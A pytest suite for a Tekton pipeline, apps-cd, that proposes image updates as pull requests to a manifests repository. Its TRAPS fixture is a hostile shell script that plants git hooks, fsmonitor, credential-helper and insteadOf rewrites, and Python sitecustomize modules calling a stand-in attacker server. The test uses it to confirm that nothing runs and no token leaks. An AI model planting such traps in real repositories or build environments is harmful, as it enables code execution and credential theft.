"""The Pipeline apps-cd, end to end: what its steps may see, what a rerun does, how it fails. In the sandbox or on a cluster."""

import json
import re
from pathlib import Path
from typing import Any

import pytest
import requests

from steps import command_line
from steps.create_runs import create_runs
from tests.sandbox.github import GitHub
from tests.sandbox.world import BOT, TOKEN, World
from tests.tekton.update import BRANCH, HEAD, KUSTOMIZATION, PATH, REGISTRY_SECRET, Update, operation


@pytest.fixture
def update(world: World) -> Update:
    return Update(world)


def test_a_newer_image_updates_the_same_pull_request(update: Update) -> None:
    first = update.start()
    assert (operation(first), update.proposed()) == ("created", [(1, "open", HEAD, update.edited(first))])
    update.world.push("example/webapp", {"page": "two\n"})
    second = update.start(image=f"{update.image}:v2")
    assert (operation(second), update.proposed()) == ("updated", [(1, "open", HEAD, update.edited(second, "v2"))])
    assert first.results["pull-request-url"] == second.results["pull-request-url"]


@pytest.mark.parametrize(
    ("effect", "kill", "rerun"),
    [
        pytest.param(f"push refs/heads/{BRANCH}", True, "created", id="killed after the push"),
        pytest.param(f"push refs/heads/{BRANCH}", False, "created", id="cancelled after the push"),
        pytest.param("create pull request 1", False, "unchanged", id="cancelled after the pull request was created"),
    ],
)
def test_a_rerun_of_an_interrupted_run_ends_in_one_pull_request(
    update: Update, effect: str, kill: bool, rerun: str
) -> None:
    world = update.world
    fired: list[str] = []

    def interrupt(seen: str) -> None:
        if seen == effect and not fired:
            fired.append(seen)
            world.interrupt(kill=kill)

    world.github.after_effect = interrupt
    interrupted = update.start(extra_args=["--reproducible"])
    assert fired == [effect]
    if not kill:
        assert interrupted.reason == "Cancelled"
    elif interrupted.succeeded:  # Tekton makes a pod anew that was lost without a word
        rerun = "unchanged"
    again = update.start(extra_args=["--reproducible"])
    assert (operation(again), update.proposed()) == (rerun, [(1, "open", HEAD, update.edited(again))])


def test_each_step_sees_the_secrets_that_it_needs_and_no_secret_is_on_a_command_line(update: Update) -> None:
    run = update.start()
    assert run.succeeded, run.describe()
    steps = {(task.name, step.name): step for task in run.tasks.values() for step in task.steps.values()}
    assert {names: step.mounts for names, step in steps.items()} == {
        ("build-image", "clone"): ["/workspace/app-repo-credentials"],
        ("build-image", "prepare"): [],
        ("build-image", "build"): ["/kaniko/.docker"],
        ("update-manifests", "clone"): ["/workspace/manifests-repo-credentials"],
        ("update-manifests", "set-image"): [],
        ("update-manifests", "run-command"): [],
        ("update-manifests", "open-pull-request"): ["/workspace/github-token", "/workspace/manifests-repo-credentials"],
    }
    written = [
        (names, where)
        for names, step in steps.items()
        for where, text in (
            ("arguments", str(step.arguments)),
            ("environment", str(step.environment)),
            ("log", step.log),
            ("results", str(step.results)),
        )
        if TOKEN in text or REGISTRY_SECRET in text
    ]
    assert written == []


def test_the_post_edit_command_runs_in_the_tree(update: Update) -> None:
    run = update.start(post_edit_command=["sh", "-c", "pwd; ls; echo found > generated.txt"])
    assert run.succeeded, run.describe()
    assert run.tasks["update-manifests"].steps["run-command"].log == "/workspace/manifests\nwebapp\n"
    (pull,) = update.world.pull_requests("example/manifests")
    assert update.world.read("example/manifests", pull.sha, "generated.txt") == "found\n"


TRAPS = """\
home=${HOME:-/tekton/home}
for name in fsmonitor ssh credential clean pre-commit pre-push reference-transaction post-index-change; do
  printf '#!/bin/sh\\npython -c "import urllib.request as r; r.urlopen(\\\"%s/fallen/%s\\\")" 2> /dev/null\\ncat\\n' "$0" $name > "$home/trap-$name"
  chmod +x "$home/trap-$name"
  case $name in *-*) mkdir -p .git/hooks && cp "$home/trap-$name" .git/hooks/$name ;; esac
done
cat > "$home/.gitconfig" <<CONFIG
[core]
  fsmonitor = $home/trap-fsmonitor
  sshCommand = $home/trap-ssh
  hooksPath = $PWD/.git/hooks
[user]
  name = nobody
  email = nobody@example.com
[credential]
  helper = !$home/trap-credential
[remote "origin"]
  url = $0/evil/manifests.git
[url "$0/instead/"]
  insteadOf = https://
  pushInsteadOf = https://
[http]
  sslVerify = false
[filter "evil"]
  clean = $home/trap-clean
CONFIG
cat "$home/.gitconfig" >> .git/config
printf 'machine localhost login bot password x\\n' > "$home/.netrc"
mkdir -p "$home/.config/git" "$home/.local/lib/python3.11/site-packages" steps
cp "$home/.gitconfig" "$home/.config/git/config"
for module in sitecustomize usercustomize github git json steps/__init__; do
  printf 'import urllib.request as r\\nr.urlopen("%s/fallen/python")\\n' "$0" > $module.py
done
cp sitecustomize.py "$home/.local/lib/python3.11/site-packages/usercustomize.py"
echo '* filter=evil' > .gitattributes
git add --all < /dev/null || true
git commit --quiet --message=evil < /dev/null || true
git ls-remote https://example.com/x < /dev/null > /dev/null 2>&1 || true
GIT_SSH_COMMAND= git ls-remote ssh://example.com/x < /dev/null > /dev/null 2>&1 || true
env -u PYTHONSAFEPATH python -c 'import json' > /dev/null 2>&1 || true
python -c "import urllib.request as r; r.urlopen('$0/all-set')" 2> /dev/null || true
"""
FALLEN = {"/fallen/fsmonitor", "/fallen/clean", "/fallen/pre-commit", "/fallen/reference-transaction", "/fallen/python"}


def test_nothing_runs_and_no_token_leaves_whatever_the_post_edit_command_sets_up(update: Update, tmp_path: Any) -> None:
    with GitHub(tmp_path / "elsewhere", host=update.world.host) as elsewhere:
        elsewhere.add_user(BOT, token=TOKEN)
        elsewhere.add_repository("evil/manifests", writers=[BOT])
        run = update.start(post_edit_command=["sh", "-euc", TRAPS, elsewhere.url])
        assert operation(run) == "created"
        paths = [request.path for request in elsewhere.requests]
        before = paths[: paths.index("/all-set")]
        assert (FALLEN - set(before), any(path.startswith("/instead/") for path in before)) == (set(), True)
        assert paths[paths.index("/all-set") + 1 :] == []
        assert elsewhere.pull_requests("evil/manifests") == []
    assert update.proposed() == [(1, "open", HEAD, update.edited(run))]


@pytest.mark.parametrize(
    ("params", "step"),
    [
        pytest.param({"app_repo_revision": "nope"}, ("build-image", "clone", 1), id="a wrong revision"),
        pytest.param({"path_to_docker_file": "nope"}, ("build-image", "prepare", 1), id="no Dockerfile"),
        pytest.param({"extra_args": ["--nope"]}, ("build-image", "build", 1), id="a flag Kaniko lacks"),
        pytest.param(
            {"path_to_manifests_dir": "nope"}, ("update-manifests", "set-image", 1), id="a wrong manifests directory"
        ),
        pytest.param(
            {"post_edit_command": ["false"]},
            ("update-manifests", "run-command", 1),
            id="a post-edit command that fails",
        ),
    ],
)
def test_a_run_that_fails_proposes_nothing(update: Update, params: dict[str, Any], step: tuple[str, str, int]) -> None:
    run = update.start(**params)
    assert (run.reason, run.failed_step, update.proposed()) == ("Failed", step, []), run.describe()


def test_overlays_are_rendered_too_and_one_that_is_at_the_root_is_edited(update: Update) -> None:
    world = update.world
    root = KUSTOMIZATION.replace("deployment.yaml", "webapp/base")
    world.push(
        "example/manifests",
        {"kustomization.yaml": root, "prod/kustomization.yaml": "resources: [../webapp/base]\nnamePrefix: prod-\n"},
    )
    run = update.start(also_verify="prod")
    assert (operation(run), update.proposed()) == ("created", [(1, "open", HEAD, update.edited(run))])
    (pull,) = world.pull_requests("example/manifests")
    image = f"{update.image}:v1@{run.results['IMAGE_DIGEST']}"
    for resource in ("webapp/base: Deployment web", "prod: Deployment prod-web"):
        place = "@@ -9 +9 @@ spec.template.spec.containers[web].image"
        lines = ["-      - image: ghcr.io/example/webapp:v0", f"+      - image: {image}"]
        assert "\n".join([f"--- {resource}", f"+++ {resource}", place, *lines]) in (pull.body or "")
    run = update.start(path_to_manifests_dir="", version="top", src_image_url="ghcr.io/example/webapp")
    assert operation(run) == "created"
    results = run.tasks["update-manifests"].results
    assert (results["containers-changed"], results["verified"]) == ("1", "rendered")
    (pull,) = (each for each in world.pull_requests("example/manifests") if each.head.endswith("/top/webapp"))
    assert world.read("example/manifests", pull.sha, "kustomization.yaml") == update.edited(run).replace(
        "deployment.yaml", "webapp/base"
    )


def test_a_run_that_create_runs_made_goes_to_its_pull_request_and_the_next_pass_makes_none(
    update: Update, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    world = update.world
    for name, text in {
        "gitconfig": f'[credential]\n\thelper = "!f() {{ echo username=x; echo password={TOKEN}; }}; f"\n',
        "template.yaml": json.dumps(update.document(author="example-bot <bot@example.com>")),
        "applications.yaml": f"""\
applications:
  - {{name: webapp, sourceRepo: webapp, manifestsDir: webapp/base, image: ghcr.io/example/webapp, pushedImage: {update.image}}}
versions:
  - name: v1.0
    tag: v1.0.0
    repos:
      - {{name: webapp, url: {world.url("example/webapp")}, branch: main}}
      - {{name: manifests, url: {world.url("example/manifests")}, branch: main}}
""",
        **world.authority,
    }.items():
        (tmp_path / name).write_text(str(text))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
    if "ca.crt" in world.authority:
        monkeypatch.setenv("GIT_SSL_CAINFO", str(tmp_path / "ca.crt"))

    def made() -> list[Path]:
        flags = [f"--config={tmp_path}/applications.yaml", f"--template={tmp_path}/template.yaml"]
        flags += [f"--src-dir={tmp_path}/src", f"--output-dir={tmp_path}/runs", "--needs-update-only"]
        assert command_line.main(create_runs, flags) == 0
        assert json.loads(capsys.readouterr().out)["problems"] == []
        return list((tmp_path / "runs").glob("*"))

    (file,) = made()
    run = world.start(file, secrets=update.all_secrets)
    commit = file.stem.rpartition("-")[2]
    assert operation(run) == "created"
    assert update.proposed() == [(1, "open", HEAD, update.edited(run, f"v1.0.0-g{commit}"))]
    (pull,) = world.pull_requests("example/manifests")
    world.push("example/manifests", {PATH: world.read("example/manifests", pull.sha, PATH)})
    assert made() == []


def test_a_github_app_opens_the_pull_request_with_a_link_to_its_run(update: Update) -> None:
    world = update.world
    key = world.github.add_app("apps-cd", app_id=7, owners=["example"])
    document = update.document(fork_owner="", dashboard_url="https://tekton.example.com")
    token = next(each for each in document["spec"]["workspaces"] if each["name"] == "github-token")
    token.update(name="github-app", secret={"secretName": "github-app"})
    app = {"app-id": "7", "private-key": key, **world.authority}

    run = world.start(document, secrets={**update.all_secrets, "github-app": app})

    assert operation(run) == "created"
    (pull,) = world.pull_requests("example/manifests")
    assert (pull.user, pull.head) == ("apps-cd[bot]", f"example:{BRANCH}")
    pages = re.findall(
        r"https://tekton\.example\.com/#/namespaces/[a-z0-9-]+/pipelineruns/([a-z0-9-]+)\)", pull.body or ""
    )
    assert pages == [run.name]


def test_what_kubeflows_apps_cd_has_left_open_is_closed_for_ours(update: Update) -> None:
    world = update.world
    update.start()
    (ours,) = world.pull_requests("example/manifests")
    api = f"{world.github.url}/api/v3/repos/example/manifests"
    headers = {"Authorization": f"token {TOKEN}"}
    seed = "update_webapp_v1-g01234567"
    for path, body in (
        ("git/refs", {"ref": f"refs/heads/{seed}", "sha": ours.sha}),
        ("pulls", {"title": "[auto PR]", "head": seed, "base": "main"}),
    ):
        requests.post(f"{api}/{path}", json=body, headers=headers, timeout=30).raise_for_status()
    task = {
        "name": "close",
        "taskRef": {"kind": "Task", "name": "close-superseded-pull-requests"},
        "params": [
            {"name": "manifests-repo-url", "value": world.url("example/manifests")},
            {"name": "author", "value": "example-bot <bot@example.com>"},
            {"name": "github-url", "value": world.github_url},
        ],
        "workspaces": [{"name": "github-token", "workspace": "github-token"}],
    }
    run = world.start(
        {
            **update.document(),
            "spec": {
                "pipelineSpec": {
                    "workspaces": [{"name": "github-token"}],
                    "results": [{"name": "closed", "value": "$(tasks.close.results.closed)"}],
                    "tasks": [task],
                },
                "workspaces": [{"name": "github-token", "secret": {"secretName": "github-token"}}],
            },
        },
        secrets=update.all_secrets,
    )

    assert (run.succeeded, run.results) == (True, {"closed": "2"}), run.describe()
    word = f"There is a newer pull request, {world.github_url}/example/manifests/pull/1, in place of this one."
    kept, closed = world.pull_requests("example/manifests")
    assert (kept, closed.state, closed.closed_by) == (ours, "closed", BOT)
    assert closed.comments == (f"{word}\n\n<!-- apps-cd remark=superseded -->",)
